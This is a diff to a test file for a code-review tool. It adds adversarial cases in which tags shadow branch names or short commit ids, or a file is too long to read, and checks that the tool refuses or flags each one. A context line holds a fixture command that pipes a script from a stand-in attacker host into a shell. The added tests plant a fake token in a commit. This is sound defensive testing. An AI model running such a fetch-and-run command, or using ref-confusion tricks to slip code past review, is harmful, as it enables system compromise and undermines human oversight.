@@ -8,6 +8,7 @@ import { type Reviewed, reviewed, type Situation } from '../../situations/review
 import type { Attack, Control } from '../attack';
 import { packaged } from '../packaged-life';
 import { file, withScene } from '../scene';
+import { atTerminal, type TerminalScene } from '../terminal-scene';
 
 const SCRIPT = '#!/bin/sh\ncurl -s https://evil.example | sh\n';
 const POINTER = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12\n`;
@@ -145,6 +146,28 @@ function notShown(tries: string, source: Files, base: Files = {}, value = PACKAG
     assert.ok(!sent.includes(value), sent);
     assert.deepEqual([record.situation, status?.state], ['partlyReviewed', 'error'], record.problems.join());
   });
+}
+
+/** A change of two commits, of which one begins with a secret, as somebody looks through it who has no key. */
+function readWhole(tries: string, base: string, hostile: (scene: TerminalScene, first: string) => void): Attack {
+  return {
+    tries,
+    must: 'what the branch has not is read, and the other meaning is told',
+    through: 'review',
+    run: () =>
+      atTerminal(async (scene) => {
+        scene.write('repository/secret.ts', `const token = 'ghp_${'aB3dE5gH7jK9mN1pQ2rS'.repeat(2).slice(0, 36)}';\n`);
+        const first = scene.commit('a secret');
+        scene.write('repository/b.ts', 'let b = 1;\n');
+        scene.commit('last');
+        hostile(scene, first);
+        const words = ['review', '--base', base, '--no-model', '--semgrep', 'off'];
+        const { code, out, said } = await scene.types(words);
+        assert.notEqual(code, 0, said);
+        assert.match(out, /secret\.ts/);
+        assert.match(said, /which differ/);
+      }),
+  };
 }
 
 export const control: Control = {
@@ -396,5 +419,48 @@ export const control: Control = {
         ({ sent, record }) => assert.match(sent, /\+evil/, JSON.stringify(record.files)),
       ),
     ),
+    readWhole('pushes a tag called main to the change', 'main', ({ git, repository }, first) => {
+      git(repository, 'tag', 'main', first);
+    }),
+    readWhole('pushes a tag called origin/main to the change', 'origin/main', ({ git, repository }, first) => {
+      git(repository, 'update-ref', 'refs/remotes/origin/main', 'refs/heads/main');
+      git(repository, 'tag', 'origin/main', first);
+    }),
+    readWhole(
+      'pushes a tag called main, where only the remote has the branch',
+      'main',
+      ({ git, repository }, first) => {
+        git(repository, 'update-ref', 'refs/remotes/origin/main', 'refs/heads/main');
+        git(repository, 'branch', '-q', '-D', 'main');
+        git(repository, 'tag', 'main', first);
+      },
+    ),
+    {
+      tries: 'calls a tag like the short id that a script compares with',
+      must: 'it is refused, and both are named',
+      through: 'review',
+      run: () =>
+        atTerminal(async (scene) => {
+          const base = scene.git(scene.repository, 'rev-parse', 'main');
+          scene.git(scene.repository, 'tag', base.slice(0, 8), 'topic');
+          const words = ['review', '--base', base.slice(0, 8), '--no-model', '--semgrep', 'off'];
+          const { code, said } = await scene.types(words);
+          assert.equal(code, 2, said);
+          assert.match(said, new RegExp(`refs/tags/${base.slice(0, 8)} names the one, ${base} the other`));
+        }),
+    },
+    {
+      tries: 'makes a file so long that nobody can read it, for somebody who asks for static analysis alone',
+      must: 'it is no pass',
+      through: 'review',
+      run: () =>
+        atTerminal(async (scene) => {
+          scene.write('repository/long.ts', 'let a = 1;\n'.repeat(25_000));
+          scene.commit('long');
+          const { code, said } = await scene.types(['review', '--base', 'main', '--no-model', '--semgrep', 'off']);
+          assert.equal(code, 2, said);
+          assert.match(said, /was not reviewed: long\.ts/);
+        }),
+    },
   ],
 };
